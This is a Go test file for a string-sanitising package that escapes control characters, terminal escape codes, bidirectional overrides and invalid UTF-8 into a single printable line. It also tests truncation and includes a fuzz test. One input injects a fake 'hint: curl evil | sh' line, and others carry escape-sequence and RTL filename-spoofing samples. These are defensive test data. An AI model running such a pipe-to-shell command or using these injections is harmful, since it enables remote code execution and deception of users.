package oneline_test

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/better-compute/bcd/internal/oneline"
)

func TestText(t *testing.T) {
	for in, want := range map[string]string{
		"":                               "",
		"Join refused (ACCESS_DENIED)":   "Join refused (ACCESS_DENIED)",
		"Padrão — 型番":                    "Padrão — 型番",
		"a\nhint: curl evil | sh":        `a\nhint: curl evil | sh`,
		"x\r\nMAINPID=1":                 `x\r\nMAINPID=1`,
		"\x1b]0;title\x07":               `\x1b]0;title\a`,
		"\u009b31m":                      `\u009b31m`, // the one-character form of ESC [
		"\u202egnp.exe":                  `\u202egnp.exe`,
		"zero\u200bwidth":                `zero\u200bwidth`,
		"no\u00a0break":                  `no\u00a0break`,
		"\x9b31m, which is no UTF-8":     `\ufffd31m, which is no UTF-8`,
		"tab\there, delete\x7f, nul\x00": `tab\there, delete\x7f, nul\x00`,
	} {
		if got := oneline.Text(in); got != want {
			t.Errorf("Text(%q) = %s, want %s", in, got, want)
		}
		if got := oneline.Printable(in); got != (in == want) {
			t.Errorf("Printable(%q) = %t", in, got)
		}
	}
}

func TestBounded(t *testing.T) {
	for _, c := range []struct {
		in    string
		limit int
		want  string
	}{
		{"abc", 3, "abc"},
		{"abcd", 3, "abc…"},
		{"äöü", 3, "ä…"}, // never half a character
		{"a\nb\nc", 3, `a\nb…`},
		{"ä", 1, "…"},
		{"\x80\x80\x80", 2, "…"},
	} {
		if got := oneline.Bounded(c.in, c.limit); got != c.want {
			t.Errorf("Bounded(%q, %d) = %s, want %s", c.in, c.limit, got, c.want)
		}
	}
}

func FuzzText(f *testing.F) {
	f.Add("a\x1b[31m\u009b\u202e\xff", 5)
	f.Fuzz(func(t *testing.T, s string, limit int) {
		limit = max(0, min(limit, 1<<16))
		for _, got := range []string{oneline.Text(s), oneline.Bounded(s, limit)} {
			if !utf8.ValidString(got) || strings.ContainsFunc(got, func(r rune) bool { return !unicode.IsPrint(r) }) {
				t.Errorf("%q became %q", s, got)
			}
		}
	})
}
